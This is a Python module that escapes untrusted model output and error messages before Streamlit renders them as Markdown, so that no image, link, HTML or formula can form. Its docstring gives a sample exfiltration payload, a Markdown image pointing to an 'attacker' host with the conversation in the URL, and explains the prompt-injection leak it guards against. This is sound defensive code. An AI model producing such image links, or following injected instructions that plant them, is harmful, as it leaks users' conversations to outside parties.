"""Untrusted text (model output, upstream error messages) made safe for `st.markdown`.

A model answer can carry `![x](https://attacker/?d=<conversation>)`: rendered as Markdown, the
browser fetches the image and the conversation leaks (prompt injection). So nothing from outside
becomes an image, a link, raw HTML or math. Pure functions, no streamlit.

`markdown()` keeps what makes answers readable (paragraphs, lists, emphasis, headings, tables,
code) and escapes the rest. It errs towards escaping: text it leaves unescaped must be code in
Markdown's eyes too, so it only trusts
- fenced code blocks whose fence starts in column 0 (such a line closes any list, quote or table
  above it; a blank line is put before it to be sure), up to the closing fence, and
- inline code spans opened and closed on one line with no `|` inside (a table would split the
  cell there); any other backtick is escaped, so it cannot pair with one further on.
Everywhere else `\\ [ ] < $ @` are escaped and bare URLs and emails broken by a word joiner,
so no image, link (inline, reference, autolink or bare URL), HTML tag or formula can form. An escape inside
something Markdown still treats as code only shows a backslash; it never un-escapes anything.
"""

from __future__ import annotations

import re

_FENCE_OPEN = re.compile(r"^(`{3,})[^`]*$|^(~{3,}).*$")
_ESCAPED = {"\\": "\\\\", "[": "\\[", "]": "\\]", "<": "\\<", "$": "\\$", "@": "\\@"}
# Markdown turns bare URLs and emails into links after escapes are resolved, so a backslash
# cannot stop it; an invisible word joiner inside the pattern does (the text reads the same).
_BARE_LINK = re.compile(r"(?i)(?<=:)//|(?<=www)\.|@")
_JOINER = "\u2060"
_BACKTICKS = re.compile(r"`+")
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def text(value: str) -> str:
    """Shown as written: every Markdown character escaped (for error messages, labels)."""
    return _PUNCTUATION.sub(r"\\\1", _break_links(value))


def markdown(value: str) -> str:
    """Model output as Markdown without images, links, HTML or math (see the module doc)."""
    out: list[str] = []
    fence: str | None = None  # the open fence's marker, e.g. "```"
    for line in value.split("\n"):
        if fence is not None:
            out.append(line)
            if _closes(line, fence):
                fence = None
            continue
        opened = _FENCE_OPEN.match(line)
        if opened:
            fence = opened.group(1) or opened.group(2)
            if out and out[-1].strip():
                out.append("")
            out.append(line)
            continue
        out.append(_inline(line))
    return "\n".join(out)


def _closes(line: str, fence: str) -> bool:
    stripped = line.lstrip(" ")
    if len(line) - len(stripped) > 3:
        return False
    run = len(stripped) - len(stripped.lstrip(fence[0]))
    return run >= len(fence) and not stripped[run:].strip()


def _inline(line: str) -> str:
    """One line outside fenced code: code spans kept, everything else escaped."""
    parts: list[str] = []
    position = 0
    while position < len(line):
        run = _BACKTICKS.search(line, position)
        if run is None:
            parts.append(_escape(line[position:]))
            break
        parts.append(_escape(line[position : run.start()]))
        close = _closing_run(line, run.end(), len(run.group()))
        span = line[run.end() : close] if close is not None else None
        if span is not None and "|" not in span:
            parts.append(line[run.start() : close + len(run.group())])
            position = close + len(run.group())
        else:
            parts.append("\\`" * len(run.group()))
            position = run.end()
    return "".join(parts)


def _closing_run(line: str, start: int, length: int) -> int | None:
    for run in _BACKTICKS.finditer(line, start):
        if len(run.group()) == length:
            return run.start()
    return None


def _break_links(fragment: str) -> str:
    return _BARE_LINK.sub(lambda m: _JOINER + m.group(), fragment)


def _escape(fragment: str) -> str:
    return "".join(_ESCAPED.get(char, char) for char in _break_links(fragment))
